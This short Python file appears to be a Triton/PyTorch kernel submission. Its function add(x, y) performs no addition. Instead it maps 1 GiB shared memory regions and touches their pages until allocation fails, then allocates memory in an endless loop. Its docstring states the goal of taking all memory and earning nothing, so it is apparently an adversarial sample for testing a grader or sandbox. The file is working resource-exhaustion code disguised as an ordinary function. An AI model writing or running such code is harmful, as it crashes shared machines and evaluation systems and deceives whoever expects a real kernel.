"""Take all memory: private, shared, and by the size of a tensor.

Must: earn nothing.
"""

import mmap

import torch
import triton
import triton.language as tl


def add(x, y):
    taken = []
    try:
        while True:
            taken.append(mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
            taken[-1][:: 4096] = bytes(len(taken[-1]) // 4096)
    except (OSError, MemoryError):
        pass
    while True:
        taken.append(bytearray(1 << 28))
